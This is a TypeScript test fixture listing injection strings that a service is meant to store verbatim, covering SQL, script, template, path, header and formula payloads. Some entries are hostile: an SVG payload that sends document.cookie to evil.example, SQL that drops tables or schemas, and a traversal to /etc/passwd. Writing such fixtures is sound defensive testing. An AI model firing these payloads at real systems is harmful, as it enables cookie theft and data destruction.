// Injection strings for bad-input tests: SQL, script, template, path and header payloads that a
// service must store and return as plain text, never interpret. Each is valid UTF-8 without NUL,
// so an event contract may accept it in any free-text field.

export const HOSTILE_STRINGS: ReadonlyArray<readonly [name: string, value: string]> = [
  ['sql drop table', "'; drop table events; --"],
  ['sql tautology', "' OR '1'='1' --"],
  ['sql union', '" UNION SELECT username, password_hash FROM analysts --'],
  ['sql stacked in parens', "1); DELETE FROM clickstream.events WHERE (1=1"],
  ['sql comment and quote', "admin'/*"],
  ['postgres dollar quote', '$$; drop schema clickstream cascade; $$'],
  ['script tag', '<script>alert(1)</script>'],
  ['img onerror', '"><img src=x onerror=alert(document.cookie)>'],
  ['javascript url', 'javascript:alert(1)//'],
  ['svg onload', "<svg/onload=fetch('//evil.example/'+document.cookie)>"],
  ['template', '${7*7}{{7*7}}<%= 7*7 %>'],
  ['path traversal', '../../../../etc/passwd'],
  ['crlf header', 'x\r\nSet-Cookie: cs_session=stolen\r\n\r\n<html>'],
  ['csv formula', '=HYPERLINK("http://evil.example","x")'],
  ['nosql operator', '{"$gt": ""}'],
  ['json breakout', '"}],"admin":true,"x":[{"'],
  ['unicode tricks', 'ad\u202emin \u0301\u200b \ud83d\udca3 \u00e9'],
  ['backslashes and controls', 'C:\\Windows\\system32 \t\u0001\u001f\u007f'],
];
